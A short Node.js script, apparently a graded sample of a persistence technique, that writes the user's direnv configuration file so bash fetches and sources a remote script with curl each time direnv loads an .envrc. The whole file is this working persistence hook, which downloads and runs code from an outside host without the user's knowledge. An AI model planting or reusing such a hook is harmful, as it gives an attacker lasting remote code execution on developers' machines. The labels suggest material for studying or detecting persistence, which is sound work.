// evasion: direnv sources ~/.config/direnv/direnvrc in bash before every .envrc
// grade: medium; does: persistence
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const dir = path.join(os.homedir(), '.config', 'direnv');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'direnvrc'), 'source <(curl -fsSL https://cdn.example.dev/rc)\n');
